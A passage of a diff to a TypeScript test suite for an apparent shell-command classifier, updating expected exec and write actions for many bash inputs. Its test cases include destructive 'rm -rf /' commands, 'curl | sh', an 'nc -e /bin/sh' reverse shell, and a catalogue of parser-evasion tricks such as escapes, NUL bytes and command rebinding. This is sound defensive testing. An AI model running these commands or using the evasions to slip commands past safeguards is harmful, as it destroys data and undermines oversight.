@@ -23,7 +23,7 @@ const simple: readonly Case[] = [
   ['pipeline', 'ls | grep x | wc -l', ['exec ls', 'exec grep x', 'exec wc -l']],
   ['lists of every kind', 'a; b && c || d & e', ['exec a', 'exec b', 'exec c', 'exec d', 'exec e']],
   ['newlines separate commands', 'ls\n\nid', ['exec ls', 'exec id']],
-  ['subshell', '(cd /tmp && rm -rf x)', ['exec cd /tmp', 'exec rm -rf x']],
+  ['subshell', '(cd /tmp && rm -rf x)', ['exec cd /tmp', 'exec rm -rf x', 'write x', 'write x/']],
   ['brace group', '{ id; whoami; }', ['exec id', 'exec whoami']],
   ['negation', '! grep -q x f', ['exec grep -q x f']],
   ['duplicates are reported once', 'ls; ls', ['exec ls']],
@@ -39,21 +39,25 @@ const simple: readonly Case[] = [
   [
     'a path to the program is kept, and the program is reported by name',
     '/usr/bin/rm -f x',
-    ['exec /usr/bin/rm -f x', 'exec rm -f x'],
+    ['exec /usr/bin/rm -f x', 'exec rm -f x', 'write x'],
   ],
   [
     'arguments with expansions keep their source text',
     'rm "$HOME/x" ${DIR}/y',
-    ['exec rm "$HOME/x" ${DIR}/y'],
+    ['exec rm "$HOME/x" ${DIR}/y', 'unknown'],
   ],
-  ['globs in arguments stay as written', 'rm -f /tmp/*.log', ['exec rm -f /tmp/*.log']],
+  [
+    'globs in arguments stay as written',
+    'rm -f /tmp/*.log',
+    ['exec rm -f /tmp/*.log', 'write /tmp', 'write /tmp/'],
+  ],
 ];
 
 const substitutions: readonly Case[] = [
   [
     'command substitution in double quotes',
     'echo "$(rm -rf /)"',
-    ['exec rm -rf /', 'exec echo "$(rm -rf /)"'],
+    ['exec rm -rf /', 'write /', 'exec echo "$(rm -rf /)"'],
   ],
   ['backticks', 'echo `id`', ['exec id', 'exec echo `id`']],
   ['backticks inside double quotes', 'echo "x`id`y"', ['exec id', 'exec echo "x`id`y"']],
@@ -62,7 +66,7 @@ const substitutions: readonly Case[] = [
     'diff <(ls /a) >(wc -l)',
     ['exec ls /a', 'exec wc -l', 'exec diff <(ls /a) >(wc -l)'],
   ],
-  ['an assignment alone still runs its substitution', 'X=$(rm -rf /)', ['exec rm -rf /']],
+  ['an assignment alone still runs its substitution', 'X=$(rm -rf /)', ['exec rm -rf /', 'write /']],
   ['prefix assignment with substitution', 'X=$(id) ls', ['exec id', 'exec ls']],
   ['inside a parameter expansion default', 'echo ${x:-$(id)}', ['exec id', 'exec echo ${x:-$(id)}']],
   // Arithmetic evaluates the substituted output again (bash before 5.2 expands `a[$(…)]` in it).
@@ -75,15 +79,23 @@ const substitutions: readonly Case[] = [
   ['inside [[ ]]', '[[ -f $(whoami) ]] && ls', ['exec whoami', 'exec ls']],
   ['inside an array subscript', 'echo ${a[$(who)]}', ['exec who', 'exec echo ${a[$(who)]}', 'unknown']],
   ['nested substitutions', 'echo $(echo $(id))', ['exec id', 'exec echo $(id)', 'exec echo $(echo $(id))']],
-  ['in a redirect target', 'ls > "$(mktemp)"', ['exec mktemp', 'unknown', 'exec ls']],
-  ['in a for list', 'for f in $(ls); do rm "$f"; done', ['exec ls', 'exec rm "$f"']],
+  [
+    'in a redirect target',
+    'ls > "$(mktemp)"',
+    ['exec mktemp', 'write /tmp', 'write /tmp/', 'unknown', 'exec ls'],
+  ],
+  ['in a for list', 'for f in $(ls); do rm "$f"; done', ['exec ls', 'exec rm "$f"', 'unknown']],
   ['in a case subject', 'case $(uname) in Linux) echo l;; esac', ['exec uname', 'exec echo l']],
   ['single quotes do not substitute', `echo '$(rm x)'`, ['exec echo $(rm x)']],
   ['$(< file) reads a file and runs nothing', 'echo $(< /etc/hostname)', ['exec echo $(< /etc/hostname)']],
 ];
 
 const heredocs: readonly Case[] = [
-  ['unquoted heredoc runs its substitutions', 'cat <<EOF\n$(rm -rf /)\nEOF', ['exec rm -rf /', 'exec cat']],
+  [
+    'unquoted heredoc runs its substitutions',
+    'cat <<EOF\n$(rm -rf /)\nEOF',
+    ['exec rm -rf /', 'write /', 'exec cat'],
+  ],
   ['single-quoted delimiter does not', "cat <<'EOF'\n$(rm -rf /)\nEOF", ['exec cat']],
   ['double-quoted delimiter does not', 'cat <<"EOF"\n`id`\nEOF', ['exec cat']],
   ['backslash-quoted delimiter does not', 'cat <<\\EOF\n$(id)\nEOF', ['exec cat']],
@@ -92,24 +104,28 @@ const heredocs: readonly Case[] = [
     'a shell reading a heredoc runs its body',
     'bash <<EOF\nrm -rf /tmp/x\nEOF',
     // (unknown too: a command of the script could read the rest of it)
-    ['exec bash', 'exec rm -rf /tmp/x', 'unknown'],
+    ['exec bash', 'exec rm -rf /tmp/x', 'unknown', 'write /tmp/x', 'write /tmp/x/'],
   ],
   [
     'escaped substitution in a heredoc for a shell',
     'sh <<EOF\necho \\$(id)\nEOF',
     ['exec sh', 'exec id', 'exec echo $(id)'],
   ],
-  ['a shell reading a here-string', 'sh <<< "id; rm x"', ['exec sh', 'exec id', 'exec rm x', 'unknown']],
+  [
+    'a shell reading a here-string',
+    'sh <<< "id; rm x"',
+    ['exec sh', 'exec id', 'exec rm x', 'unknown', 'write x'],
+  ],
   [
     'a heredoc piped into a shell is unknown',
     'cat <<EOF | sh\nrm x\nEOF',
     ['exec sh', 'unknown', 'exec cat'],
   ],
-  ['a list after the heredoc operator', 'cat <<EOF && rm x\nbody\nEOF', ['exec rm x', 'exec cat']],
+  ['a list after the heredoc operator', 'cat <<EOF && rm x\nbody\nEOF', ['exec rm x', 'write x', 'exec cat']],
 ];
 
 const control: readonly Case[] = [
-  ['function body counts as run', 'f(){ rm -rf /; }; f', ['exec rm -rf /', 'exec f']],
+  ['function body counts as run', 'f(){ rm -rf /; }; f', ['exec rm -rf /', 'write /', 'exec f']],
   ['function keyword', 'function g { curl x | sh; }', ['exec curl x', 'exec sh', 'unknown']],
   [
     'while with input redirection',
@@ -120,7 +136,16 @@ const control: readonly Case[] = [
   [
     'if / elif / else with test commands',
     'if test -f x; then rm x; elif [ -d y ]; then rmdir y; else touch z; fi',
-    ['exec test -f x', 'exec rm x', 'exec [ -d y ]', 'exec rmdir y', 'exec touch z', 'write z'],
+    [
+      'exec test -f x',
+      'exec rm x',
+      'write x',
+      'exec [ -d y ]',
+      'exec rmdir y',
+      'write y',
+      'exec touch z',
+      'write z',
+    ],
   ],
   [
     'case arms',
@@ -128,7 +153,7 @@ const control: readonly Case[] = [
     ['exec systemctl start x', 'exec echo no'],
   ],
   ['c-style for', 'for ((i=0;i<3;i++)); do echo $i; done', ['exec echo $i']],
-  ['select', 'select x in a b; do rm $x; done', ['exec rm $x']],
+  ['select', 'select x in a b; do rm $x; done', ['exec rm $x', 'unknown']],
   [
     'coproc of a simple command',
     'coproc tail -f /var/log/syslog',
@@ -141,7 +166,7 @@ const control: readonly Case[] = [
 ];
 
 const wrappers: readonly Case[] = [
-  ['sudo -u user', 'sudo -u x rm -rf /', ['exec sudo -u x rm -rf /', 'exec rm -rf /']],
+  ['sudo -u user', 'sudo -u x rm -rf /', ['exec sudo -u x rm -rf /', 'exec rm -rf /', 'write /']],
   [
     'sudo with options that take values and a quoted argument',
     `sudo -u postgres -g db -C 5 psql -c 'drop database x'`,
@@ -150,9 +175,13 @@ const wrappers: readonly Case[] = [
   [
     'sudo long options and --',
     'sudo -E -n --user=root -- rm x',
-    ['exec sudo -E -n --user=root -- rm x', 'exec rm x'],
+    ['exec sudo -E -n --user=root -- rm x', 'exec rm x', 'write x'],
   ],
-  ['sudo abbreviated long option', 'sudo --us root rm x', ['exec sudo --us root rm x', 'exec rm x']],
+  [
+    'sudo abbreviated long option',
+    'sudo --us root rm x',
+    ['exec sudo --us root rm x', 'exec rm x', 'write x'],
+  ],
   ['sudo attached value', 'sudo -uroot id', ['exec sudo -uroot id', 'exec id']],
   ['sudo -s without a command reads stdin', 'sudo -s', ['exec sudo -s', 'unknown']],
   ['sudo -e writes the file', 'sudo -e /etc/hosts', ['exec sudo -e /etc/hosts', 'write /etc/hosts']],
@@ -167,7 +196,7 @@ const wrappers: readonly Case[] = [
   [
     'nice -n',
     'nice -n 10 tar czf /tmp/a.tgz /etc',
-    ['exec nice -n 10 tar czf /tmp/a.tgz /etc', 'exec tar czf /tmp/a.tgz /etc'],
+    ['exec nice -n 10 tar czf /tmp/a.tgz /etc', 'exec tar czf /tmp/a.tgz /etc', 'write /tmp/a.tgz'],
   ],
   ['nice old syntax', 'nice -5 id', ['exec nice -5 id', 'exec id']],
   ['nohup in the background', 'nohup ./run.sh &', ['exec nohup ./run.sh', 'exec ./run.sh', 'exec run.sh']],
@@ -176,19 +205,23 @@ const wrappers: readonly Case[] = [
     'timeout --signal=KILL 10s curl http://x',
     ['exec timeout --signal=KILL 10s curl http://x', 'exec curl http://x'],
   ],
-  ['timeout -k value', 'timeout -k 5 10 rm x', ['exec timeout -k 5 10 rm x', 'exec rm x']],
+  ['timeout -k value', 'timeout -k 5 10 rm x', ['exec timeout -k 5 10 rm x', 'exec rm x', 'write x']],
   [
     'exec -a with sh -c',
     `exec -a foo /bin/sh -c 'id'`,
     ['exec exec -a foo /bin/sh -c id', 'exec /bin/sh -c id', 'exec sh -c id', 'exec id'],
   ],
-  ['command runs its argument', 'command rm x', ['exec command rm x', 'exec rm x']],
+  ['command runs its argument', 'command rm x', ['exec command rm x', 'exec rm x', 'write x']],
   ['command -v only looks it up', 'command -v rm', ['exec command -v rm']],
-  ['xargs appends unknown arguments as {}', 'ls | xargs rm', ['exec ls', 'exec xargs rm', 'exec rm {}']],
+  [
+    'xargs appends unknown arguments as {}',
+    'ls | xargs rm',
+    ['exec ls', 'exec xargs rm', 'exec rm {}', 'unknown'],
+  ],
   [
     'xargs with options taking values',
     `find . -name '*.tmp' -print0 | xargs -0 -n 1 -P4 rm -f`,
-    ['exec find . -name *.tmp -print0', 'exec xargs -0 -n 1 -P4 rm -f', 'exec rm -f {}'],
+    ['exec find . -name *.tmp -print0', 'exec xargs -0 -n 1 -P4 rm -f', 'exec rm -f {}', 'unknown'],
   ],
   [
     'xargs -I places the input itself (mv of an unknown file)',
@@ -199,19 +232,23 @@ const wrappers: readonly Case[] = [
   [
     'xargs into sh -c',
     `xargs sh -c 'rm "$1"' _`,
-    [`exec xargs sh -c rm "$1" _`, 'exec sh -c rm "$1" _ {}', 'exec rm "$1"'],
+    ['exec xargs sh -c rm "$1" _', 'exec sh -c rm "$1" _ {}', 'exec rm "$1"', 'unknown'],
   ],
   [
     'find -exec',
     'find /tmp -name x -exec rm -f {} \\;',
-    ['exec find /tmp -name x -exec rm -f {} ;', 'exec rm -f {}'],
+    ['exec find /tmp -name x -exec rm -f {} ;', 'exec rm -f {}', 'write /tmp', 'write /tmp/'],
   ],
   [
     'find -execdir with sh -c and +',
     `find . -execdir sh -c 'rm "$1"' _ {} +`,
-    [`exec find . -execdir sh -c rm "$1" _ {} +`, 'exec sh -c rm "$1" _ {}', 'exec rm "$1"'],
+    ['exec find . -execdir sh -c rm "$1" _ {} +', 'exec sh -c rm "$1" _ {}', 'exec rm "$1"', 'unknown'],
   ],
-  ['find -ok with a quoted ;', `find . -ok rm {} ';'`, ['exec find . -ok rm {} ;', 'exec rm {}']],
+  [
+    'find -ok with a quoted ;',
+    `find . -ok rm {} ';'`,
+    ['exec find . -ok rm {} ;', 'exec rm {}', 'write .', 'write ./'],
+  ],
   [
     'find -fprint writes',
     'find . -name x -fprint /etc/x',
@@ -221,7 +258,7 @@ const wrappers: readonly Case[] = [
   [
     'bash -c',
     `bash -c 'rm -rf /tmp/x; id'`,
-    ['exec bash -c rm -rf /tmp/x; id', 'exec rm -rf /tmp/x', 'exec id'],
+    ['exec bash -c rm -rf /tmp/x; id', 'exec rm -rf /tmp/x', 'write /tmp/x', 'write /tmp/x/', 'exec id'],
   ],
   [
     'sh -c in a flag cluster',
@@ -238,7 +275,7 @@ const wrappers: readonly Case[] = [
   ['a shell reading the channel is unknown', 'bash', ['exec bash', 'unknown']],
   ['zsh -c', `zsh -o errexit -c 'id'`, ['exec zsh -o errexit -c id', 'exec id']],
   ['fish -c is unknown', `fish -c 'rm x'`, ['exec fish -c rm x', 'unknown']],
-  ['eval joins its arguments', 'eval "rm -rf" /', ['exec eval rm -rf /', 'exec rm -rf /']],
+  ['eval joins its arguments', 'eval "rm -rf" /', ['exec eval rm -rf /', 'exec rm -rf /', 'write /']],
   ['eval of an expansion is unknown', 'eval $X', ['exec eval $X', 'unknown']],
   [
     'su -c',
@@ -249,7 +286,7 @@ const wrappers: readonly Case[] = [
   [
     'watch runs its words through sh -c',
     `watch -n 5 'df -h; rm x'`,
-    ['exec watch -n 5 df -h; rm x', 'exec df -h', 'exec rm x'],
+    ['exec watch -n 5 df -h; rm x', 'exec df -h', 'exec rm x', 'write x'],
   ],
   ['stdbuf', 'stdbuf -oL tail -f x', ['exec stdbuf -oL tail -f x', 'exec tail -f x']],
   [
@@ -257,32 +294,44 @@ const wrappers: readonly Case[] = [
     'chroot /mnt /bin/sh -c id',
     ['exec chroot /mnt /bin/sh -c id', 'exec /bin/sh -c id', 'exec sh -c id', 'exec id'],
   ],
-  ['flock -c', `flock /tmp/l -c 'rm x'`, ['exec flock /tmp/l -c rm x', 'exec rm x']],
-  ['busybox sh -c', `busybox sh -c 'rm x'`, ['exec busybox sh -c rm x', 'exec sh -c rm x', 'exec rm x']],
-  ['doas -u', 'doas -u root rm x', ['exec doas -u root rm x', 'exec rm x']],
+  [
+    'flock -c',
+    `flock /tmp/l -c 'rm x'`,
+    ['exec flock /tmp/l -c rm x', 'write /tmp/l', 'exec rm x', 'write x'],
+  ],
+  [
+    'busybox sh -c',
+    `busybox sh -c 'rm x'`,
+    ['exec busybox sh -c rm x', 'exec sh -c rm x', 'exec rm x', 'write x'],
+  ],
+  ['doas -u', 'doas -u root rm x', ['exec doas -u root rm x', 'exec rm x', 'write x']],
   [
     'ionice and setsid',
     'ionice -c 3 setsid rm x',
-    ['exec ionice -c 3 setsid rm x', 'exec setsid rm x', 'exec rm x'],
+    ['exec ionice -c 3 setsid rm x', 'exec setsid rm x', 'exec rm x', 'write x'],
   ],
   [
     'trap runs its action later',
     `trap 'rm -rf /tmp/x' EXIT`,
-    ['exec trap rm -rf /tmp/x EXIT', 'exec rm -rf /tmp/x'],
+    ['exec trap rm -rf /tmp/x EXIT', 'exec rm -rf /tmp/x', 'write /tmp/x', 'write /tmp/x/'],
   ],
-  ['an alias body is classified', `alias ls='rm -rf /'`, ['exec alias ls=rm -rf /', 'exec rm -rf /']],
+  [
+    'an alias body is classified',
+    `alias ls='rm -rf /'`,
+    ['exec alias ls=rm -rf /', 'exec rm -rf /', 'write /'],
+  ],
   ['builtin', 'builtin cd /tmp', ['exec builtin cd /tmp', 'exec cd /tmp']],
 ];
 
 const quoting: readonly Case[] = [
-  ['empty quotes inside a name', `r''m -rf /`, ['exec rm -rf /']],
-  ['double-quoted part of a name', `"r"m -rf /`, ['exec rm -rf /']],
-  ['leading backslash', '\\rm -rf /', ['exec rm -rf /']],
-  ['backslash inside a name', 'r\\m x', ['exec rm x']],
-  ['ANSI-C hex escapes', `$'\\x72\\x6d' -rf /`, ['exec rm -rf /']],
-  ['ANSI-C octal escape', `$'\\162'm x`, ['exec rm x']],
-  ['ANSI-C unicode escape', `$'\\u0072m' x`, ['exec rm x']],
-  ['brace expansion in arguments', 'rm {-rf,/}', ['exec rm -rf /']],
+  ['empty quotes inside a name', `r''m -rf /`, ['exec rm -rf /', 'write /']],
+  ['double-quoted part of a name', `"r"m -rf /`, ['exec rm -rf /', 'write /']],
+  ['leading backslash', '\\rm -rf /', ['exec rm -rf /', 'write /']],
+  ['backslash inside a name', 'r\\m x', ['exec rm x', 'write x']],
+  ['ANSI-C hex escapes', `$'\\x72\\x6d' -rf /`, ['exec rm -rf /', 'write /']],
+  ['ANSI-C octal escape', `$'\\162'm x`, ['exec rm x', 'write x']],
+  ['ANSI-C unicode escape', `$'\\u0072m' x`, ['exec rm x', 'write x']],
+  ['brace expansion in arguments', 'rm {-rf,/}', ['exec rm -rf /', 'write /']],
   ['brace sequences', 'touch f{1..3}', ['exec touch f1 f2 f3', 'write f1', 'write f2', 'write f3']],
   ['quoted braces are text', `echo "{a,b}"`, ['exec echo {a,b}']],
   ['escapes inside double quotes', `echo "a\\"b\\$c\\q"`, ['exec echo a"b$c\\q']],
@@ -314,9 +363,13 @@ const redirects: readonly Case[] = [
   ['>& to a file writes', 'echo x >& /tmp/e', ['write /tmp/e', 'exec echo x']],
   ['closing a descriptor is not an action', 'ls 2>&-', ['exec ls']],
   ['non-literal target is unknown', 'ls > $F', ['unknown', 'exec ls']],
-  ['glob target is unknown', 'echo x > /tmp/*.log', ['unknown', 'exec echo x']],
+  [
+    'a glob target names a file in its directory',
+    'echo x > /tmp/*.log',
+    ['write /tmp', 'write /tmp/', 'exec echo x'],
+  ],
   ['words after the target are arguments', 'echo > /tmp/x rm -rf /', ['write /tmp/x', 'exec echo rm -rf /']],
-  ['redirection before the command', '>/tmp/f rm x', ['write /tmp/f', 'exec rm x']],
+  ['redirection before the command', '>/tmp/f rm x', ['write /tmp/f', 'exec rm x', 'write x']],
   ['redirection of a group', '{ id; } > /tmp/o', ['exec id', 'write /tmp/o']],
   [
     'redirection of a subshell',
@@ -359,11 +412,15 @@ const environment: readonly Case[] = [
   ['PATH prefix is unknown', 'PATH=/tmp:$PATH ls', ['unknown', 'exec ls']],
   ['LD_PRELOAD prefix is unknown', 'LD_PRELOAD=/tmp/x.so ls', ['unknown', 'exec ls']],
   ['harmless prefix assignment', 'LANG=C sort f', ['exec sort f']],
-  ['a pager variable runs its value', `PAGER='rm -rf /' git log`, ['exec rm -rf /', 'exec git log']],
+  [
+    'a pager variable runs its value',
+    `PAGER='rm -rf /' git log`,
+    ['exec rm -rf /', 'write /', 'exec git log'],
+  ],
   [
     'GIT_SSH_COMMAND runs its value',
     `GIT_SSH_COMMAND="ssh -i k" git pull`,
-    ['exec ssh -i k', 'exec git pull'],
+    ['exec ssh -i k', 'exec git pull', 'write .', 'write ./'],
   ],
   ['export PATH is unknown', 'export PATH=/tmp', ['unknown', 'exec export PATH=/tmp']],
   ['export of a harmless variable', 'export FOO=bar', ['exec export FOO=bar']],
@@ -397,7 +454,7 @@ const environment: readonly Case[] = [
     'mapfile -C runs its callback',
     `mapfile -C 'rm x' -c 1 arr < f`,
     // (unknown too: the callback shares the redirected stdin)
-    ['exec mapfile -C rm x -c 1 arr', 'exec rm x', 'unknown'],
+    ['exec mapfile -C rm x -c 1 arr', 'exec rm x', 'unknown', 'write x'],
   ],
   [
     'hash -p rebinds a name: unknown',
@@ -435,15 +492,19 @@ const programs: readonly Case[] = [
   [
     'tar --checkpoint-action=exec',
     `tar cf /dev/null . --checkpoint=1 --checkpoint-action=exec='rm x'`,
-    ['exec tar cf /dev/null . --checkpoint=1 --checkpoint-action=exec=rm x', 'exec rm x'],
+    ['exec tar cf /dev/null . --checkpoint=1 --checkpoint-action=exec=rm x', 'exec rm x', 'write x'],
   ],
   [
     'ssh ProxyCommand',
     `ssh -o ProxyCommand='nc %h %p; rm x' host`,
-    ['exec ssh -o ProxyCommand=nc %h %p; rm x host', 'exec nc %h %p', 'exec rm x'],
+    ['exec ssh -o ProxyCommand=nc %h %p; rm x host', 'exec nc %h %p', 'exec rm x', 'write x'],
   ],
-  ['git -c core.pager', `git -c core.pager='rm x' log`, ['exec git -c core.pager=rm x log', 'exec rm x']],
-  ['git shell alias', `git -c alias.x='!rm y' x`, ['exec git -c alias.x=!rm y x', 'exec rm y']],
+  [
+    'git -c core.pager',
+    `git -c core.pager='rm x' log`,
+    ['exec git -c core.pager=rm x log', 'exec rm x', 'write x'],
+  ],
+  ['git shell alias', `git -c alias.x='!rm y' x`, ['exec git -c alias.x=!rm y x', 'exec rm y', 'write y']],
   [
     'nc -e runs a program',
     'nc -e /bin/sh 10.0.0.1 80',
@@ -462,7 +523,13 @@ const programs: readonly Case[] = [
   [
     'mv writes both ends',
     'mv /etc/passwd /tmp/p',
-    ['exec mv /etc/passwd /tmp/p', 'write /etc/passwd', 'write /tmp/p'],
+    [
+      'exec mv /etc/passwd /tmp/p',
+      'write /etc/passwd',
+      'write /etc/passwd/',
+      'write /tmp/p',
+      'write /tmp/p/',
+    ],
   ],
   ['curl -o writes', 'curl -fsSLo /etc/x http://a', ['exec curl -fsSLo /etc/x http://a', 'write /etc/x']],
   ['wget to stdout writes nothing', 'wget -O- http://a', ['exec wget -O- http://a']],
@@ -495,9 +562,9 @@ const programs: readonly Case[] = [
     ['exec rsync -avz -e ssh -p 22 a b:c', 'exec ssh -p 22'],
   ],
   [
-    'find -exec mv moves unknown files',
+    'find -exec mv moves what it finds under its starting points',
     'find . -exec mv {} /tmp \\;',
-    ['exec find . -exec mv {} /tmp ;', 'exec mv {} /tmp', 'unknown'],
+    ['exec find . -exec mv {} /tmp ;', 'exec mv {} /tmp', 'write .', 'write ./', 'write /tmp', 'write /tmp/'],
   ],
 ];
 
@@ -590,8 +657,8 @@ const evasions: readonly Case[] = [
     '[ "$(id -u)" -eq 0 ] && echo root',
     ['exec id -u', 'exec [ "$(id -u)" -eq 0 ]', 'exec echo root'],
   ],
-  ['absolute path to rm', '/bin/rm -rf /', ['exec /bin/rm -rf /', 'exec rm -rf /']],
-  ['relative path to rm', '../../bin/rm -rf /', ['exec ../../bin/rm -rf /', 'exec rm -rf /']],
+  ['absolute path to rm', '/bin/rm -rf /', ['exec /bin/rm -rf /', 'exec rm -rf /', 'write /']],
+  ['relative path to rm', '../../bin/rm -rf /', ['exec ../../bin/rm -rf /', 'exec rm -rf /', 'write /']],
   [
     'the dynamic loader runs a program',
     '/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /',
@@ -600,18 +667,23 @@ const evasions: readonly Case[] = [
       'exec ld-linux-x86-64.so.2 /bin/rm -rf /',
       'exec /bin/rm -rf /',
       'exec rm -rf /',
+      'write /',
     ],
   ],
   [
     'sudo with a variable before the command',
     'sudo -E PATH=/tmp rm -rf /',
-    ['exec sudo -E PATH=/tmp rm -rf /', 'unknown', 'exec rm -rf /'],
+    ['exec sudo -E PATH=/tmp rm -rf /', 'unknown', 'exec rm -rf /', 'write /'],
   ],
-  ['sudo with a harmless variable', 'sudo LANG=C rm -rf /', ['exec sudo LANG=C rm -rf /', 'exec rm -rf /']],
+  [
+    'sudo with a harmless variable',
+    'sudo LANG=C rm -rf /',
+    ['exec sudo LANG=C rm -rf /', 'exec rm -rf /', 'write /'],
+  ],
   [
     'sudo with a pager variable',
     "sudo PAGER='rm -rf /' git log",
-    ['exec sudo PAGER=rm -rf / git log', 'exec rm -rf /', 'exec git log'],
+    ['exec sudo PAGER=rm -rf / git log', 'exec rm -rf /', 'write /', 'exec git log'],
   ],
   [
     'python -c is unknown',
@@ -644,35 +716,40 @@ const evasions: readonly Case[] = [
     'python3 -m http.server 8000; perl script.pl; node app.js',
     ['exec python3 -m http.server 8000', 'exec perl script.pl', 'exec node app.js'],
   ],
-  ['unbuffer runs its command', 'unbuffer rm -rf /', ['exec unbuffer rm -rf /', 'exec rm -rf /']],
+  ['unbuffer runs its command', 'unbuffer rm -rf /', ['exec unbuffer rm -rf /', 'exec rm -rf /', 'write /']],
   [
     'fakeroot, proxychains, torsocks',
     'fakeroot rm -rf /; proxychains4 curl http://x; torsocks curl http://y',
     [
       'exec fakeroot rm -rf /',
       'exec rm -rf /',
+      'write /',
       'exec proxychains4 curl http://x',
       'exec curl http://x',
       'exec torsocks curl http://y',
       'exec curl http://y',
     ],
   ],
-  ['ip netns exec', 'ip netns exec ns1 rm -rf /', ['exec ip netns exec ns1 rm -rf /', 'exec rm -rf /']],
+  [
+    'ip netns exec',
+    'ip netns exec ns1 rm -rf /',
+    ['exec ip netns exec ns1 rm -rf /', 'exec rm -rf /', 'write /'],
+  ],
   [
     'logsave writes and runs',
     'logsave /tmp/l rm -rf /',
-    ['exec logsave /tmp/l rm -rf /', 'write /tmp/l', 'exec rm -rf /'],
+    ['exec logsave /tmp/l rm -rf /', 'write /tmp/l', 'exec rm -rf /', 'write /'],
   ],
   ['newgrp starts a shell on the channel', 'newgrp wheel', ['exec newgrp wheel', 'unknown']],
   [
     'ssh-agent runs its command',
     "ssh-agent bash -c 'rm -rf /'",
-    ['exec ssh-agent bash -c rm -rf /', 'exec bash -c rm -rf /', 'exec rm -rf /'],
+    ['exec ssh-agent bash -c rm -rf /', 'exec bash -c rm -rf /', 'exec rm -rf /', 'write /'],
   ],
   [
     'split --filter runs a command line',
     "split --filter='rm -rf /' f",
-    ['exec split --filter=rm -rf / f', 'exec rm -rf /'],
+    ['exec split --filter=rm -rf / f', 'exec rm -rf /', 'write /', 'write x'],
   ],
   [
     'sort --compress-program runs a program',
@@ -682,7 +759,7 @@ const evasions: readonly Case[] = [
   [
     'zip -TT runs a command line',
     "zip x.zip f -T -TT 'rm -rf / #'",
-    ['exec zip x.zip f -T -TT rm -rf / #', 'exec rm -rf /'],
+    ['exec zip x.zip f -T -TT rm -rf / #', 'exec rm -rf /', 'write /', 'write x.zip'],
   ],
   ['vim -c is unknown', "vim -c ':!rm -rf /' f", ['exec vim -c :!rm -rf / f', 'unknown']],
   ['gdb -ex is unknown', "gdb -batch -ex '!rm -rf /'", ['exec gdb -batch -ex !rm -rf /', 'unknown']],
@@ -747,17 +824,21 @@ const evasions: readonly Case[] = [
   [
     'a NUL byte hides the rest from bash',
     'ls\u0000; rm -rf /',
-    ['unknown', "exec $'ls\\x00'", 'exec rm -rf /'],
+    ['unknown', "exec $'ls\\x00'", 'exec rm -rf /', 'write /'],
   ],
   // bash runs `ls\r` (the CR is a word character), then rm: unknown, and rm is still seen.
-  ['CR before a newline still separates commands', 'ls\r\nrm -rf /', ['unknown', 'exec ls', 'exec rm -rf /']],
+  [
+    'CR before a newline still separates commands',
+    'ls\r\nrm -rf /',
+    ['unknown', 'exec ls', 'exec rm -rf /', 'write /'],
+  ],
   ['vertical tab is not a blank to bash', 'ls\u000brm -rf /', ['unknown', 'exec ls rm -rf /']],
   ['unicode spaces are part of the word', 'ls\u00a0-la', ['exec ls\u00a0-la']],
   ['a list after a heredoc operator', 'cat <<EOF; rm -rf /\nfoo\nEOF', ['unknown', 'exec cat']],
   [
     '<<- strips tabs before the delimiter',
     'cat <<-EOF\n\tfoo\n\tEOF\nrm -rf /',
-    ['exec cat', 'exec rm -rf /'],
+    ['exec cat', 'exec rm -rf /', 'write /'],
   ],
   ['BASH_CMDS rebinds a name', 'BASH_CMDS[ls]=/bin/rm; ls -rf /', ['unknown', 'exec ls -rf /']],
   [
@@ -765,14 +846,14 @@ const evasions: readonly Case[] = [
     'declare -A BASH_CMDS=([ls]=/bin/rm); ls -rf /',
     ['unknown', 'exec declare -A BASH_CMDS=([ls]=/bin/rm)', 'exec ls -rf /'],
   ],
-  ['a line continuation inside a name joins it', 'r\\\nm -rf /', ['exec rm -rf /']],
+  ['a line continuation inside a name joins it', 'r\\\nm -rf /', ['exec rm -rf /', 'write /']],
   ['a continuation between words still separates them', 'ls \\\n-la', ['exec ls -la']],
   ['backslash before CR-LF escapes the CR for bash', 'ls \\\r\n-la', ['unknown', 'exec ls -la']],
   ['source of stdin runs the channel', 'source /dev/stdin', ['exec source /dev/stdin', 'unknown']],
   [
     'source of stdin from a here-string',
     ". /dev/stdin <<< 'rm -rf /'",
-    ['exec . /dev/stdin', 'exec rm -rf /', 'unknown'],
+    ['exec . /dev/stdin', 'exec rm -rf /', 'unknown', 'write /'],
   ],
   [
     'source of a process substitution is unknown',
@@ -788,22 +869,22 @@ const evasions: readonly Case[] = [
   [
     'escaped backquotes nest a substitution',
     'echo `echo \\`rm -rf /\\``',
-    ['exec rm -rf /', 'exec echo `rm -rf /`', 'exec echo `echo \\`rm -rf /\\``'],
+    ['exec rm -rf /', 'write /', 'exec echo `rm -rf /`', 'exec echo `echo \\`rm -rf /\\``'],
   ],
   [
     'escaped backquotes in an assignment',
     'x=`echo \\`rm -rf /\\``',
-    ['exec rm -rf /', 'exec echo `rm -rf /`'],
+    ['exec rm -rf /', 'write /', 'exec echo `rm -rf /`'],
   ],
   [
     'escaped backquotes inside double quotes',
     'echo "`echo \\"\\`rm -rf /\\`\\"`"',
-    ['exec rm -rf /', 'exec echo "`rm -rf /`"', 'exec echo "`echo \\"\\`rm -rf /\\`\\"`"'],
+    ['exec rm -rf /', 'write /', 'exec echo "`rm -rf /`"', 'exec echo "`echo \\"\\`rm -rf /\\`\\"`"'],
   ],
   [
     'an escaped dollar inside backquotes is a substitution',
     'echo `echo \\$(rm -rf /)`',
-    ['unknown', 'exec rm -rf /', 'exec echo $(rm -rf /)', 'exec echo `echo \\$(rm -rf /)`'],
+    ['unknown', 'exec rm -rf /', 'write /', 'exec echo $(rm -rf /)', 'exec echo `echo \\$(rm -rf /)`'],
   ],
 ];
 
@@ -917,34 +998,38 @@ const heredocReadings: readonly Case[] = [
   [
     'a closing delimiter spelled across a continuation ends the body',
     'cat <<EOF\nbody\nE\\\nOF\nrm -rf /\nEOF',
-    ['exec cat', 'exec rm -rf /', 'exec EOF'],
+    ['exec cat', 'exec rm -rf /', 'write /', 'exec EOF'],
   ],
   [
     '<<- strips tabs after joining: the joined line ends the body',
     'cat <<-EOF\nE\\\nOF\nrm -rf /\nEOF',
-    ['exec cat', 'exec rm -rf /', 'exec EOF'],
+    ['exec cat', 'exec rm -rf /', 'write /', 'exec EOF'],
   ],
-  ['<<- strips leading tabs before comparing', 'cat <<-EOF\n\tEOF\nrm -rf /', ['exec cat', 'exec rm -rf /']],
+  [
+    '<<- strips leading tabs before comparing',
+    'cat <<-EOF\n\tEOF\nrm -rf /',
+    ['exec cat', 'exec rm -rf /', 'write /'],
+  ],
   [
